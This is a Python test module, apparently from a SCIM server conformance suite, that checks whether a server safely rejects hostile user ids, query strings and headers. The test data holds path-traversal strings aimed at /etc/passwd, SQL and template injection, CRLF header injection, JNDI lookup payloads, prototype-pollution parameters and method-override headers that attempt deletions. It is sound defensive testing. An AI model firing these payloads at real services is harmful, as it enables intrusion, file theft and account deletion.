from scimproof.fixtures.check import SHOULD, cases, check
from scimproof.fixtures.expect import expect_no_crash
from scimproof.fixtures.expect_hostile import expect_no_header, expect_no_such_user
from scimproof.fixtures.expect_resource import expect_stored


@check(
    id="hostile-id-shows-nobody",
    requirements=["7643-9.2-02", "7644-3.12-14", "7644-3.4.1-02"],
    builds_on="known_user",  # there must be somebody to be shown
    hint="Decode the id once, look it up as a text, and answer 404; convert it to no number and no path.",
    matters="A crafted id reads files of the server or another tenant's people, or ends in a page of the framework.",
)
@cases(
    "identifier",
    parent_folders="..%2f..%2f..%2fetc%2fpasswd",
    dots="%2e%2e",
    dots_encoded_twice="%252e%252e%252f",
    backslashes="..%5c..%5cwindows%5cwin.ini",
    nul="%00",
    nul_inside="a%00b",
    quote="%27",
    sql="%27%20OR%20%271%27%3D%271",
    sql_comment="1%3B--",
    star="*",
    percent="%25",
    broken_percent="%zz",
    not_utf8="%ff%fe",
    letters_of_the_world="%E5%90%8D%20%F0%9F%98%80",
    word_null="null",
    negative="-1",
    beyond_64_bits="99999999999999999999",
    template="%7B%7B7*7%7D%7D",
    jndi="%24%7Bjndi%3Aldap%3A%2F%2Fscimproof.invalid%2Fa%7D",
    long="a" * 4_000,
)
def test_id_shows_nobody(scim, users, identifier):
    """GET of an id that is an attack, or no id at all, is refused or not found."""
    expect_no_such_user(scim.get(f"{users.endpoint}/{identifier}", follow=False), identifier)


@check(
    id="hostile-id-adds-no-header",
    requirements=["7643-9.2-02", "7644-3.2-07"],
    hint="Percent-encode what goes from the URL into Location and Content-Location: a line break there ends the header.",
    matters="Whoever sends a crafted link writes headers and pages in the name of the service, and poisons caches with them.",
)
@cases("line_break", carriage_return_and_line_feed="%0d%0a", line_feed="%0a")
def test_id_adds_no_header(scim, users, line_break):
    """A line break in an id begins no header of the answer."""
    injected = f"{users.endpoint}/nobody{line_break}X-Scimproof-Injected:%20yes"

    expect_no_header(scim.get(injected, follow=False), "X-Scimproof-Injected")


@check(
    id="hostile-id-that-begins-right-shows-nobody",
    requirements=["7643-9.2-02", "7644-3.4.1-02"],
    level=SHOULD,
    hint="Compare the whole id; do not cut it at a byte, a quote or a blank.",
    matters="A filter in front of the server allows one path, and the server reads another one out of it.",
)
@cases("tail", nul="%00", quote="%27--", percent="%25", text="x")
def test_id_that_begins_right_shows_nobody(scim, known_user, tail):
    """An id with something behind it is another id."""
    expect_no_such_user(scim.get(f"{known_user.path}{tail}", follow=False), f"{known_user.id}{tail}")


@check(
    id="hostile-query-does-no-harm",
    requirements=["7644-3.12-14", "7643-9.2-02"],
    hint="Answer 400 or 414 to a query that cannot be read; ignore parameters that you do not know.",
    matters="A link checker or a broken client fills the error log of the service, and real failures drown in it.",
)
@cases(
    "query",
    long="noSuchParameter=" + "a" * 6_000,
    many="&".join(f"noSuch{n}=1" for n in range(500)),
    broken_percent="attributes=%zz&noSuchParameter=%",
    not_utf8="attributes=%ff%fe",
    nul="attributes=%00",
    name_twice="attributes=userName&attributes=id",
    brackets="attributes[]=userName&attributes[$ne]=x",
    no_value="attributes&excludedAttributes",
    path="attributes=..%2f..%2fetc%2fpasswd",
    pollution="__proto__[admin]=1&constructor.prototype.admin=1",
)
def test_query_does_no_harm(scim, known_user, query):
    """A query string that is long, broken or odd does not make the server fail."""
    expect_no_crash(scim.get(known_user.path, query=query))


@check(
    id="hostile-parameter-twice-does-no-harm",
    requirements=["7644-3.12-14"],
    needs=("filter",),
    hint="Take one of the values, or answer 400; a list where you expect a text is no surprise.",
    matters="A proxy that adds a parameter once more turns every query into a failure of the server.",
)
@cases(
    "query",
    filter="filter=userName%20eq%20%22nobody%22&filter=userName%20eq%20%22no-one%22",
    count="count=1&count=2&filter=userName%20eq%20%22nobody%22",
    start_index="startIndex=1&startIndex=2&filter=userName%20eq%20%22nobody%22",
)
def test_parameter_twice_does_no_harm(scim, users, query):
    """A query parameter that is given twice does not make the server fail."""
    expect_no_crash(scim.get(users.endpoint, query=query))


@check(
    id="hostile-header-does-no-harm",
    requirements=["7644-3.12-14", "7643-9.2-02"],
    hint="Ignore headers that you do not know, and answer 400 or 431 to those that are too much.",
    matters="A proxy adds a header that the server cannot read, and every request of the identity provider fails.",
)
@cases(
    "headers",
    long={"X-Long": "a" * 6_000},
    many={f"X-Many-{n}": "1" for n in range(60)},
    language={"Accept-Language": "*;q=abc, \u00ff"},
    dates={"If-Modified-Since": "yesterday"},
    ranges={"Range": "bytes=0-0,5-1,-99999999999999999999"},
    forwarded={"X-Forwarded-For": "' OR 1=1", "Forwarded": "for=;;;"},
    jndi={"X-Api-Version": "${jndi:ldap://scimproof.invalid/a}"},
    encoding={"Accept-Encoding": "no-such-encoding;q=2"},
)
def test_header_does_no_harm(scim, known_user, headers):
    """A request header that is long, broken or odd does not make the server fail."""
    expect_no_crash(scim.get(known_user.path, headers=headers))


@check(
    id="hostile-override-deletes-nobody",
    requirements=["7644-3.2-06", "7643-9.2-02"],
    hint="Take the method from the request line; switch the override of your framework off.",
    matters="A link in a mail deletes an account: browsers and proxies think that a GET does no harm.",
)
@cases("header", usual="X-HTTP-Method-Override", short="X-HTTP-Method", other="X-Method-Override")
def test_override_deletes_nobody(scim, users, minimal_user, header):
    """A GET stays a GET, whatever method a header names."""
    scim.get(minimal_user.path, headers={header: "DELETE"})

    expect_stored(users, minimal_user, "id", minimal_user.id)


@check(
    id="hostile-override-in-the-query-deletes-nobody",
    requirements=["7644-3.2-06", "7643-9.2-02"],
    hint="Read no method from the query string.",
    matters="A web crawler that follows such a link with somebody's session removes people.",
)
def test_override_in_the_query_deletes_nobody(scim, users, minimal_user):
    """A GET stays a GET, whatever method its query names."""
    scim.get(minimal_user.path, query={"_method": "DELETE"})

    expect_stored(users, minimal_user, "id", minimal_user.id)
